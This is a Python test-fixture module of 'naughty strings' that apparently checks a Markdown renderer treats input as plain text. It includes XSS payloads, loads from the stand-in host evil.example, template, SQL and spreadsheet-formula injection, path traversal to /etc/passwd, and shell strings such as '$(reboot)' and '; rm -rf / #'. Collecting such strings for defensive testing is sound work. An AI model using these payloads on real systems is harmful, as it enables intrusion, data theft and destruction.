"""Text that breaks careless programs: markup that wants to run, signs that mean something to somebody, odd letters.

All of it is ordinary text to us. Whatever runs sets `window.__pwned` or opens a dialog.
"""

from __future__ import annotations

import re
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Naughty:
    """A text as typed.

    `prose` is what a reader sees where our small Markdown is read; `None` where a check refuses the text there, or
    where it is the beginning of a block (a list, a fence) and so looks different in a paragraph and in a table.
    """

    text: str
    prose: str | None

    @property
    def may_be_sent(self) -> bool:
        """Whether it can stand in a reply: words in curly brackets are a gap there, which somebody has to fill."""
        return not re.search(r"\{[A-Za-z]", self.text)


def _same(*texts: str) -> tuple[Naughty, ...]:
    return tuple(Naughty(text, text) for text in texts)


def _never_in_prose(*texts: str) -> tuple[Naughty, ...]:
    return tuple(Naughty(text, None) for text in texts)


def _read(shown: dict[str, str]) -> tuple[Naughty, ...]:
    return tuple(Naughty(text, prose) for text, prose in shown.items())


RUNS = _same(
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert('one')</script",
    "</script><script>window.__pwned=2</script>",
    "</title><script>window.__pwned=3</script>",
    "</textarea><script>window.__pwned=4</script>",
    "</style><script>window.__pwned=5</script>",
    "</template><img src=x onerror=window.__pwned=6>",
    "</noscript><svg onload=window.__pwned=7>",
    "<img src=x onerror=window.__pwned=8>",
    "<img src='x' onerror='alert(1)' style='position:fixed;inset:0'>",
    '"><img src=x onerror=window.__pwned=9>',
    "'><img src=x onerror=window.__pwned=10>",
    '" onmouseover="window.__pwned=11" x="',
    "' autofocus onfocus='window.__pwned=12' x='",
    '" style="background:url(https://evil.example/x.png)" x="',
    "<svg/onload=window.__pwned=13>",
    "<svg><script>window.__pwned=14</script></svg>",
    "<body onload=window.__pwned=15>",
    "<iframe srcdoc='<script>parent.__pwned=16</script>'></iframe>",
    "<iframe src=javascript:window.__pwned=17>",
    "<object data='javascript:window.__pwned=18'></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href='javascript:window.__pwned=19'>press</a>",
    "<form action='//evil.example'><button>Send</button></form>",
    "<input autofocus onfocus=window.__pwned=20>",
    "<details open ontoggle=window.__pwned=21>",
    "<video><source onerror=window.__pwned=22></video>",
    "<marquee onstart=window.__pwned=23>news</marquee>",
    "<math><mtext><img src=x onerror=window.__pwned=24></mtext></math>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>body{display:none}</style>",
    "<plaintext>",
    "<xmp><script>window.__pwned=25</script></xmp>",
    "<!--><script>window.__pwned=26</script>-->",
    "<![CDATA[<script>window.__pwned=27</script>]]>",
    "<?php echo 'no'; ?>",
    "<%= 7*7 %>",
    "javascript:window.__pwned=28",
    "data:text/html,<script>window.__pwned=29</script>",
    "vbscript:msgbox(1)",
)

TEMPLATES = _same(
    "{{ 7*7 }}",
    "{{ config.items() }}",
    "{{ self|attr('x') }}",
    "{% raw %}",
    "{% endraw %}{{ 7*7 }}",
    "{% for x in y %}",
    "{# gone? #}",
    "${7*7}",
    "#{7*7}",
    "%{7*7}",
    "{{constructor.constructor('window.__pwned=30')()}}",
    "{0} {1} {name}",
    "{agent_name}",
    "%s %d %n %x %(name)s",
    "$& $1 $$ $0",
    "!!python/object:os.system",
    "&anchor",
    "@import 'x'",
    '--8<-- "secret.txt"',
    ":material-skull: :smile:",
    "[TOC]",
    "[[wiki link]]",
    "??? note",
    "!!! danger",
    "^^up^^ ~~gone~~ ==marked==",
    "{.class #id onclick=alert(1)}",
    "{: onclick='alert(1)' }",
    "$x^2$ $$y$$",
    "[^1]",
    "|| a || b ||",
)

SIGNS = _same(
    "===",
    "---",
    "# heading",
    "## heading ##",
    "> quoted",
    "| a | b |",
    "<!-- gone? -->",
    "-->",
    "]]>",
    "5 < 6 and 7 > 6",
    "a<b>c",
    "AT&T, B&B, R&D",
    "& && &&&",
    "&nosuchentity;",
    "'single' \"double\" ‘curly’ “curly” «guillemets»",
    "it's O'Neill's",
    "back\\slash C:\\new\\table",
    "ends with \\",
    "Robert'); DROP TABLE students;--",
    "' OR '1'='1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "../../../../etc/passwd",
    "CON, PRN, AUX, NUL, COM1.txt",
    "file.txt:stream",
    "~/.ssh",
    "$(reboot)",
    "; rm -rf / #",
    "%00 %0A %2e%2e%2f",
    "https://evil.example/?a=1&b=2#c",
    "//evil.example",
    "mailto:",
    "[not a link]",
    "[a](b",
    "(parens) [brackets] {braces}",
    "*lonely star",
    "snake_case_name",
    "a * b * c",
    "`one tick",
    "!?#%&/=+~^",
    "key: value",
    "~",
)

READ_IN_PROSE = _read(
    {
        "*stars*": "stars",
        "**two stars**": "two stars",
        "__init__": "init",
        "`ticks <b>`": "ticks <b>",
        "`<script>window.__pwned=31</script>`": "<script>window.__pwned=31</script>",
        "&lt;b&gt;": "<b>",
        "&amp;amp;": "&amp;",
        "&#60;script&#62;window.__pwned=32": "<script>window.__pwned=32",
        "&quot; onclick=&quot;alert(1)": '" onclick="alert(1)',
        "\\*not stars\\*": "*not stars*",
        "\\\\server\\share": "\\server\\share",
        "\\<b\\>": "<b>",
        "<https://evil.example/x>": "https://evil.example/x",
        "[words](https://evil.example/?a=1&b=2)": "words",
    }
)

REFUSED_IN_PROSE = _never_in_prose(
    "[x](javascript:window.__pwned=33)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,eA==)",
    "[x](vbscript:alert(1))",
    "[x](//evil.example)",
    "[x](../../secret)",
    "![x](https://evil.example/x.png)",
    "![x](x.png)",
    "<javascript:window.__pwned=34>",
    "- item",
    "- ",
    "* item",
    "1. item",
    "```html <b>",
    "~~~",
)

LETTERS = _same(
    "Iñtërnâtiônàlizætiøn",
    "Ünïcödé straße ÉCOLE ǆ ŉ",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "사회과학원 어학연구소",
    "مرحبا بالعالم",
    "שלום עולם",
    "\u202eright to left override\u202c",
    "\u2066isolated\u2069 \u200fmark\u200e",
    "zero\u200bwidth\u200bspace",
    "join\u200d\u200cers",
    "soft\u00adhyphen",
    "no\u00a0break\u202fspace",
    "word\u2060joiner",
    "combining e\u0301 e\u0300 n\u0303",
    "Z\u0351\u036b\u0343\u0350a\u0335\u0321l\u0337\u0322g\u0338o\u0334",
    "😀 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇬🇧",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝕏 𝟙𝟚𝟛",
    "\U0001f9ff \U0001faa9",
    "ﷺ ﷽ ꧅",
    "﹤script﹥ ＜script＞window.__pwned=35",
    "ʼ ′ ″ ‵ ＇ ＂",
    "i̇ İ ı I",
    "K Å Ω (signs that fold)",
    "\ufffd replacement",
    "☃ ♥️ ™️ ©",
    "（全角）１２３",
    "a" * 120,
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
    "ends with a space ",
    "two  spaces   three",
)

WORDS = _same(
    "null",
    "undefined",
    "NaN",
    "None",
    "nil",
    "true",
    "false",
    "yes",
    "no",
    "on",
    "off",
    "0",
    "-1",
    "1e999",
    "0x1F",
    "007",
    "1_000",
    "12:30:45",
    "2026-11-21",
    "Infinity",
    "[object Object]",
    "constructor",
    "toString",
    "hasOwnProperty",
    "<<: *merge",
    "x",
)

NAUGHTY: tuple[Naughty, ...] = (
    *RUNS, *TEMPLATES, *SIGNS, *READ_IN_PROSE, *REFUSED_IN_PROSE, *LETTERS, *WORDS,
)  # fmt: skip
"""Everything. No two are the same."""
